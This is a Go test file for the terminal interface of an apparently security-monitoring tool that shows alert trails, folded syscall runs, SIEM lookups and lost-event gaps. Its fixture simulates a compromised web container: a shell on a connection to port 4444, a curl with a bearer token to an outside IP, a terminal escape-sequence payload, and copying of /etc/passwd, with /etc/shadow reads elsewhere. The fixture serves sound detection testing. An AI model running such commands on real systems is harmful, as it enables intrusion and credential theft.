package tui

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stoop-project/stoop/internal/event"
	"github.com/stoop-project/stoop/internal/source"
	"github.com/stoop-project/stoop/internal/trail"
	"github.com/stoop-project/stoop/tui/tuitest"
)

// A shell on a connection, what was said on it, and a copy of a file in many
// calls.
func shellScene() *event.Batch {
	w := tuitest.NewWorld()
	cont := w.Container("6cf4be7b2388", "web", "web-0", "shop", "docker.io/shop/web:2.4.1")
	server := w.Proc(0, cont, 4410, 33, "www-data", "/usr/bin/python3", "/srv/app.py")
	w.Do(server, "execve", w.File("/usr/bin/python3"), 0)
	w.Wait(time.Minute)
	sh := w.Proc(server, 0, 5901, 33, "www-data", "/bin/sh")
	w.Do(sh, "execve", w.File("/bin/sh"), 0)
	call := w.Conn("10.4.0.17:37352", "10.4.9.66:4444")
	w.Do(sh, "connect", call, 0)
	w.Alert(sh, "connect", call, "Shell on a network connection", event.PriorityCritical, "mitre_execution")
	say := func(typ, text string, n int) { w.Do(sh, typ, call, int64(n), "data", []byte(text)) }
	say("read", "id\n", 3)
	say("write", "uid=33(www-data)\n", 17)
	say("read", "curl -H 'Authorization: Bearer s5Ff0cs5Ff0cs5Ff0c' http://10.4.9.66\n", 70)
	say("write", "<html>\r\n<title>\x1b]0;owned\x07", 9000)
	w.Wait(20 * time.Second)
	passwd, copied := w.File("/etc/passwd"), w.File("/tmp/p")
	w.Do(sh, "openat", passwd, 3, "flags", uint64(0), "name", "/etc/passwd")
	for range 2304 {
		w.Do(sh, "read", passwd, 4096)
		w.Do(sh, "write", copied, 4096)
	}
	w.Do(sh, "procexit", 0, 0)
	return w.Take()
}

func openShell(t *testing.T, w, h int) (*tuitest.Driver, *Model) {
	t.Helper()
	d, m := openOn(t, &tuitest.Source{Name: "shell", Batches: []*event.Batch{shellScene()}}, w, h)
	d.Keys("e", "enter")
	return d, m
}

func wants(t *testing.T, d *tuitest.Driver, texts ...string) {
	t.Helper()
	shown := d.Text()
	for _, text := range texts {
		if !strings.Contains(shown, text) {
			t.Errorf("%q is not on the screen:\n%s", text, shown)
		}
	}
}

// Runs of like calls are one line, which unfolds in place.
func TestTrailFolds(t *testing.T) {
	d, m := openShell(t, 120, 40)
	d.Keys("G", "k", "k")
	wants(t, d, "▸", "read ×2,304, 9.0 MB", "/etc/passwd", "write ×2,304, 9.0 MB", "without an event")
	golden(t, d, 120, 40, "trail-folded")
	lines := m.level().trail.events.lines.Len()
	d.Keys("enter")
	if n := m.level().trail.events.lines.Len(); n != lines+2304 {
		t.Errorf("unfolding made %d lines of %d", n, lines)
	}
	golden(t, d, 120, 40, "trail-unfolded")
	d.Keys("j", "j", "j", "enter")
	if n := m.level().trail.events.lines.Len(); n != lines {
		t.Errorf("folding made %d lines, not %d", n, lines)
	}
	d.Keys("/")
	d.Type("/tmp/p")
	d.Keys("enter", "n", "n")
	if p := &m.level().trail.events; p.lines.Line(p.at).Of != 3 {
		t.Errorf("the third match is on line %+v", p.lines.Line(p.at))
	}
}

// What was typed and answered can be read, with secrets masked and nothing that
// the terminal would obey.
func TestTrailStream(t *testing.T) {
	d, m := openShell(t, 120, 40)
	d.Keys("v")
	wants(t, d, "‹ id", "› uid=33(www-data)", "Bearer ****", `› <title>\x1b]0;owned\x07`, "9 KB more moved and was not kept")
	if text := d.Text(); strings.Contains(text, "s5Ff0c") {
		t.Errorf("the token shows:\n%s", text)
	}
	golden(t, d, 120, 40, "trail-stream")
	d.Keys("j", "enter")
	if row, ok := m.level().trail.row(); !ok || row.B.Res[row.I] != 17 {
		t.Errorf("the second line is not the answer's")
	}
}

// Events that only a SIEM holds come into the trail, and the screen says where
// they are from.
func TestTrailFromSIEM(t *testing.T) {
	src, _ := kept()
	d, m := openOn(t, src, 120, 40)
	d.Settle(changedMsg{}, func() bool { return m.level().counted.shown == 1 })
	d.Keys("s", "s")
	if n := len(m.level().trail.trail.Steps); n != 3 || !m.level().trail.elsewhere {
		t.Errorf("the trail has %d events of 3:\n%s", n, d.Text())
	}
	wants(t, d, "open /etc/shadow", "open /etc/group", "2 places")
	d.Keys("W")
	wants(t, d, "es://siem/falco-*", "the alert's container")
	d.Keys("esc", "d")
	wants(t, d, "fd.name", "/etc/shadow")
}

// A place that cannot be asked is said.
func TestTrailPlaceFails(t *testing.T) {
	src, _ := kept()
	d, m := openOn(t, src, 120, 40)
	d.Settle(changedMsg{}, func() bool { return m.level().counted.shown == 1 })
	src.Refuse(errors.New("connection refused"))
	d.Keys("s", "W")
	wants(t, d, "1 failed", "connection refused")
}

// An alert that names neither container nor process has its answer.
func TestTrailOfBareAlert(t *testing.T) {
	w := tuitest.NewWorld()
	p := w.Proc(0, event.ContID(w.T.Conts.Add(event.Container{})), 0, 0, "", "")
	w.Alert(p, "openat", 0, "Something", event.PriorityWarning)
	d, _ := openOn(t, &tuitest.Source{Name: "bare", Batches: []*event.Batch{w.Take()}}, 120, 40)
	d.Keys("e", "enter")
	golden(t, d, 120, 40, "trail-bare")
	d.Keys("W")
	wants(t, d, "--container ID name them")
	d.Keys("esc", "s", "enter", "o", "O", "v", "p", "d", "esc", "esc", "esc", "esc")
}

// Going back while a trail is made ends that, and nothing half made is shown.
func TestTrailGivenUp(t *testing.T) {
	_, m := openShell(t, 120, 40)
	v := m.level().trail
	making := &trailView{from: v.from, base: v.base}
	for _, held := range []*trail.Trail{nil, v.trail} {
		making.building, making.trail = false, held
		cmd := m.buildTrail(making)
		making.cancel()
		if msg := cmd(); msg != nil {
			t.Errorf("%T came of what was given up", msg)
		}
	}
}

// A trail of very many processes and events is drawn by what is on the screen.
func TestTrailOfThousands(t *testing.T) {
	w := tuitest.NewWorld()
	cont := w.Container("6cf4be7b2388", "web", "web-0", "shop", "docker.io/shop/web:2.4.1")
	sh := w.Proc(0, cont, 100, 0, "root", "/bin/sh")
	w.Do(sh, "execve", w.File("/bin/sh"), 0)
	w.Alert(sh, "execve", 0, "Shell", event.PriorityCritical)
	for i := range 20_000 {
		p := w.Proc(sh, 0, int32(1000+i), 0, "root", "/bin/tool", fmt.Sprint(i))
		w.Do(p, "execve", w.File("/bin/tool"), 0)
	}
	d, m := openOn(t, &tuitest.Source{Name: "many", Batches: []*event.Batch{w.Take()}}, 120, 40)
	d.Keys("e", "enter")
	wants(t, d, "lineage 20,001 processes", "events 20,002 events")
	d.Keys("G")
	wants(t, d, "tool 19999")
	d.Keys("p", "G", "k")
	if n := m.level().trail.lineage.node(); n == nil || n.Line() != "/bin/tool 19998" && n.Process.PID != 20998 {
		t.Errorf("the last but one is %v", n)
	}
}

// What was lost is drawn where it was lost, told in the story, and summed up
// above.
func TestTrailLosses(t *testing.T) {
	b := shellScene()
	src := &tuitest.Source{Name: "lossy", Batches: []*event.Batch{b}}
	at := func(i int) time.Time { return time.Unix(0, b.Time[i]) }
	src.Count(func(st *source.Stats) {
		st.Gaps = []source.Gap{
			{Container: "6cf4be7b2388", From: at(5), To: at(5).Add(time.Second), Count: 312},
			{From: at(9), To: at(9).Add(2 * time.Second), Count: 4, Guess: true},
			{Container: "0123456789ab", From: at(5), To: at(9), Count: 1000}, // another's
		}
	})
	d, _ := openOn(t, src, 120, 40)
	d.Keys("e", "enter")
	wants(t, d, "lost 312 of this container and 4 of others, or of it", "┈┈┈┈ 312 events of this container lost between T+", "within the next 1s")
	golden(t, d, 120, 40, "trail-losses")
}

// A trail that takes the place of a larger one, as when only its subtree is known
// to count, is shown once its lines are there: until then the one before stays.
func TestTrailShrinks(t *testing.T) {
	d, m := openShell(t, 120, 40)
	v := m.level().trail
	d.Keys("G")
	larger, first := v.trail, v.base.Range(0, 4)
	smaller, ok := trailMsg{of: v, trail: trail.Build(v.from.Row(), rowsOf(first)), whole: true}.fill(t.Context()).(trailMsg)
	if !ok {
		t.Fatal("it was not made")
	}
	cmd := m.trailed(smaller)
	m.View()
	if v.trail != larger {
		t.Error("it is shown without its lines")
	}
	for _, key := range []string{"k", "o", "esc", "d", "d", "p", "s", "enter"} { // nothing of either is mistaken for the other's
		d.Keys(key)
	}
	d.Send(cmd())
	if v.trail != smaller.trail || v.events.of != smaller.trail {
		t.Errorf("it is not shown:\n%s", d.Text())
	}
}

// What is near the alert is shown before all of a large recording was looked at.
func TestTrailNearFirst(t *testing.T) {
	w := tuitest.NewWorld()
	cont := w.Container("6cf4be7b2388", "web", "web-0", "shop", "docker.io/shop/web:2.4.1")
	sh := w.Proc(0, cont, 100, 0, "root", "/bin/sh")
	w.Do(sh, "execve", w.File("/bin/sh"), 0)
	w.Alert(sh, "execve", 0, "Shell", event.PriorityCritical)
	const batches, each = 4, 1 << 14
	var all []*event.Batch
	for range batches {
		for range each {
			w.Do(sh, "read", w.File("/etc/passwd"), 4096)
		}
		all = append(all, w.Take())
	}
	_, m := openOn(t, &tuitest.Source{Name: "large", Batches: all}, 120, 40)
	ref, ok := m.alerts.At(0)
	if !ok {
		t.Fatal("no alert")
	}
	f, err := compile(trailOf(ref.Row()))
	if err != nil {
		t.Fatal(err)
	}
	v := &trailView{from: ref, base: m.store.View(f)}
	near := m.buildTrail(v)().(trailMsg)
	if done, total := v.base.Progress(); near.whole || near.trail.Self == nil || near.trail.Looked != trailNear+1 || done >= total {
		t.Errorf("first %d events, whole %v, of %d of %d looked at", near.trail.Looked, near.whole, done, total)
	}
	if len(near.told) == 0 {
		t.Error("nothing is told of what is near")
	}
	early := near.next().(trailMsg)
	if early.trail.Looked != batches*each+2 {
		t.Errorf("then %d events", early.trail.Looked)
	}
	if whole := early.next().(trailMsg); !whole.whole || whole.trail != early.trail {
		t.Error("the story was not told of the whole")
	}
}
